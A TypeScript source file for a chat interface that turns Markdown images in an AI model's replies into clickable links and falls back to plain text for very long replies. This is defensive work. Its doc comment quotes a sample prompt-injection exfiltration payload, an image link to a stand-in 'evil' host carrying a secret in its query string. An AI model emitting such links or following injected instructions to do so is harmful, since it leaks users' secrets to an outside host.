/**
 * Prepares a model's reply for the safe Markdown renderer, or keeps it plain when it is too long to parse on every
 * streamed piece (the inline parser's cost grows with the square of some inputs, such as many unclosed `[`): an image (`![alt](url)`) becomes a plain link labelled as
 * an image, so nothing is fetched when the reply renders (a prompt-injected `![x](https://evil/?q=secret)` would
 * otherwise leak through the image request); the user may still open it on purpose with a click.
 */
const IMAGE = /!\[([^\]]*)\]\(([^)\s]*)(?:\s+"[^"]*")?\)/g

export function imagesAsLinks(markdown: string): string {
  return markdown.replace(IMAGE, (_, alt: string, url: string) => {
    const label = `image: ${alt.trim() || 'untitled'}`
    return url ? `[${label}](${url})` : label
  })
}

/** Past this, a reply is shown as plain text: a prompt-injected or runaway reply must not stall the page. */
export const MAX_MARKDOWN_CHARS = 12_000

export type ReplyView = { kind: 'markdown'; source: string } | { kind: 'plain'; text: string }

export function replyView(text: string): ReplyView {
  return text.length > MAX_MARKDOWN_CHARS ? { kind: 'plain', text } : { kind: 'markdown', source: imagesAsLinks(text) }
}
